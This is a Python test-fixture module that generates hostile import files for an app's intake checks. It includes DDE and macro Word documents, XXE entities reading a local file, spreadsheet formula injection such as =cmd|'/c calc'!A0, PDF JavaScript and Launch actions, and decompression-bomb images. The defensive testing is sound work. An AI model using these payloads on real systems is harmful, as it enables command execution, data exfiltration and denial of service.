"""Files that would reach out, run or swell if anybody let them: each with what it is."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

from docx.document import Document
from PIL import Image

from tests.intake import files
from tests.intake.timetables import table

MAIN = "word/document.xml"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
SECRET = "zqfromthedisk"
"""Stands in a file of this laptop that nothing from outside may read."""


def links(url: str, *kinds: str) -> bytes:
    """Relationships to something outside, of each of these kinds."""
    each = "".join(
        f'<Relationship Id="x{n}" Type="{_R}/{kind}" Target="{url}/{kind}" TargetMode="External"/>'
        for n, kind in enumerate(kinds)
    )
    return f'<Relationships xmlns="{_RELS}">{each}</Relationships>'.encode()


def _word(url: str, disk: str) -> Iterator[tuple[str, bytes]]:
    good = files.words("# Mon 09:00 Leader of the council", "+ Members trust each other")
    kinds = (
        "image",
        "attachedTemplate",
        "hyperlink",
        "oleObject",
        "frame",
        "subDocument",
        "aFChunk",
    )
    reaching = files.replaced(good, "word/_rels/settings.xml.rels", links(url, *kinds))
    reaching = files.replaced(reaching, "word/_rels/header1.xml.rels", links(url, *kinds))
    yield (
        "reaching.docx",
        files.replaced(reaching, "word/embeddings/oleObject1.bin", b"\xd0\xcf" * 99),
    )

    def field(document: Document) -> None:
        document.add_heading("Mon 09:00 Leader of the council", level=1)
        said = f'DDEAUTO c:\\\\windows\\\\cmd.exe "/k {url}"'
        picture = f'INCLUDEPICTURE "{url}/a.png" \\d'
        for words in (said, picture, f'INCLUDETEXT "{disk}"'):
            files.raw(
                document,
                f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{words}'
                '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
                "<w:r><w:t>after the field</w:t></w:r></w:p>",
            )

    yield "fields.docx", files.word(field)
    yield "macros.docm", files.replaced(good, "word/vbaProject.bin", b"Sub AutoOpen()")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/s.png"/></svg>'
    yield "svg.docx", files.replaced(good, "word/media/image1.svg", svg.encode())
    for name, at in (("entity", url), ("disk", disk)):
        told = (
            f'<!DOCTYPE d [<!ENTITY e SYSTEM "{at}">]><w:document xmlns:w="{_W}"><w:body><w:p><w:r>'
            "<w:t>&e;</w:t></w:r></w:p></w:body></w:document>"
        )
        yield f"{name}.docx", files.replaced(good, MAIN, told.encode())
    yield (
        "presentation.docx",
        files.replaced(
            good,
            "[Content_Types].xml",
            b"<Types><Override PartName='/x.xml' ContentType='application/vnd.openxmlformats-"
            b"officedocument.presentationml.presentation.main+xml'/></Types>",
        ),
    )
    yield "page.txt", f'<img src="{url}/a.png"><link rel="stylesheet" href="{url}">'.encode()
    yield "marked.md", f"# Mon 09:00 Leader\n![]({url}/a.png)\n+ [link]({url})".encode()


def _tables(url: str, disk: str) -> Iterator[tuple[str, bytes]]:
    good = table(
        [
            ["Day", "Time", "Session"],
            ["3 November 2025", "09:00", f'=WEBSERVICE("{url}/w")'],
            ["3 November 2025", "10:00", f'=HYPERLINK("{url}/h","Leader")'],
            ["3 November 2025", "11:00", "=cmd|'/c calc'!A0"],
        ]
    )
    link = files.replaced(good, "xl/externalLinks/externalLink1.xml", b"<externalLink/>")
    rels = links(url, "externalLinkPath", "oleObject")
    yield (
        "reaching.xlsx",
        files.replaced(link, "xl/externalLinks/_rels/externalLink1.xml.rels", rels),
    )
    web = f'<connections><connection type="4"><webPr url="{url}/q"/></connection></connections>'
    yield "connected.xlsx", files.replaced(good, "xl/connections.xml", web.encode())
    with zipfile.ZipFile(io.BytesIO(good)) as packed:
        told = packed.read("xl/worksheets/sheet1.xml").decode()
    for name, at in (("entity", url), ("disk", disk)):
        doctype = f'<!DOCTYPE d [<!ENTITY e SYSTEM "{at}">]>'
        spoiled = doctype + told.replace("<sheetData>", "<sheetData>&e;")
        yield f"{name}.xlsx", files.replaced(good, "xl/worksheets/sheet1.xml", spoiled.encode())
    yield (
        "formulas.csv",
        (
            f'Day,Time,Session\n3 Nov 2025,09:00,"=WEBSERVICE(""{url}"")"\n'
            f"3 Nov 2025,10:00,\\\\{url[7:]}\\x"
        ).encode(),
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(wide: int, high: int, *more: bytes, data: bytes = b"\0\0\0\0") -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0))
    body = b"".join(more) + _chunk(b"IDAT", zlib.compress(data, 1)) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + head + body


def _pictures(url: str, disk: str) -> Iterator[tuple[str, bytes]]:
    svg = (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "{disk}">]><svg xmlns='
        f'"http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image width="9" '
        f'height="9" xlink:href="{url}/i.png"/><style>@import url("{url}/c.css");</style><text>&e;'
        "</text></svg>"
    ).encode()
    for name in ("drawn.svg", "drawn.png", "drawn.jpg"):
        yield name, svg
    yield "huge.png", _png(60_000, 60_000)
    yield "swelling.png", _png(20_000, 1_900, data=bytes(115_000_000))
    comment = _chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + zlib.compress(bytes(90_000_000), 1))
    yield "comment.png", _png(1, 1, comment)
    profile = _chunk(b"iCCP", b"p\0\0" + zlib.compress(bytes(90_000_000), 1))
    yield "profile.png", _png(1, 1, profile)
    plain = Image.new("RGB", (40, 30), "white")
    for kind in ("GIF", "TIFF", "BMP", "WEBP", "EPS", "ICO", "PPM"):
        out = io.BytesIO()
        plain.save(out, kind)
        yield f"odd-{kind.lower()}.png", out.getvalue()
    yield "script.eps.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (r) file"
    yield "list.jpg", f"#EXTM3U\n{url}/list".encode()


def _pdfs(url: str) -> Iterator[tuple[str, bytes]]:
    def pdf(action: str) -> bytes:
        return (
            f"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<<{action}>>>>endobj\n"
            "trailer<</Root 1 0 R>>\n%%EOF"
        ).encode()

    yield "link.pdf", pdf(f"/S/URI/URI({url}/u)")
    yield "script.pdf", pdf(f"/S/JavaScript/JS(app.launchURL('{url}'))")
    yield "spelt.pdf", pdf(f"/S/J#61vaScript/J#53(app.launchURL('{url}'))")
    yield "launch.pdf", pdf(f"/S/Launch/F({url})")
    packed = zlib.compress(f"1 0 <</S/JavaScript/JS(app.launchURL('{url}'))>>".encode())
    within = b"2 0 obj<</Type/ObjStm/N 1/Filter/FlateDecode>>stream\n" + packed
    yield "packed.pdf", b"%PDF-1.7\n" + within + b"\nendstream endobj\n%%EOF"
    yield "form.pdf", pdf(f"/S/SubmitForm/F({url})")
    yield "remote.pdf", pdf(f"/S/GoToR/F({url}/g.pdf)")
    yield "font.pdf", pdf(f"/Type/Font/FontFile2<</F({url}/f.ttf)>>")


def notes_files(url: str, disk: str) -> list[tuple[str, bytes]]:
    """What would be imported as notes."""
    return [*_word(url, disk)]


def tables(url: str, disk: str) -> list[tuple[str, bytes]]:
    """What would be imported as a timetable."""
    return [*_tables(url, disk)]


def photos(url: str, disk: str) -> list[tuple[str, bytes]]:
    """What would be added as a photo or a document."""
    return [*_pictures(url, disk), *_pdfs(url)]


def html(url: str, disk: str) -> str:
    """What a browser, Word or a mail would put on the clipboard."""
    return (
        f'<html><head><base href="{url}/"><link rel="stylesheet" href="{url}/s.css"><style>'
        f"@font-face{{font-family:x;src:url({url}/f.ttf)}} p{{background:url({url}/b.png)}}"
        f'</style></head><body><img src="{url}/i.png"><img src="file://{disk}">'
        f'<img src="//127.0.0.1/share/i.png"><iframe src="{url}/f"></iframe>'
        f'<script src="{url}/j.js"></script><p>Members trust officers</p>'
    )


def on_disk(folder: Path) -> Path:
    """A file of this laptop that nothing from outside may read."""
    made = folder / "own.txt"
    made.write_text(SECRET)
    return made


NAMES = (
    *(("notes", n) for n in (
        "reaching.docx", "fields.docx", "macros.docm", "svg.docx", "entity.docx", "disk.docx",
        "presentation.docx", "page.txt", "marked.md",
    )),
    *(("tables", n) for n in (
        "reaching.xlsx", "connected.xlsx", "entity.xlsx", "disk.xlsx", "formulas.csv",
    )),
    *(("photos", n) for n in (
        "drawn.svg", "drawn.png", "drawn.jpg", "huge.png", "swelling.png", "comment.png",
        "profile.png", "odd-gif.png", "odd-tiff.png", "odd-bmp.png", "odd-webp.png", "odd-eps.png",
        "odd-ico.png", "odd-ppm.png", "script.eps.jpg", "list.jpg", "link.pdf", "script.pdf",
        "spelt.pdf", "launch.pdf", "packed.pdf", "form.pdf", "remote.pdf", "font.pdf",
    )),
)  # fmt: skip
"""What there is, by what would read it: the files themselves are made when they are wanted."""


def pictures(url: str, disk: str) -> list[tuple[str, bytes]]:
    """Pictures and what goes by their names."""
    return [*_pictures(url, disk)]
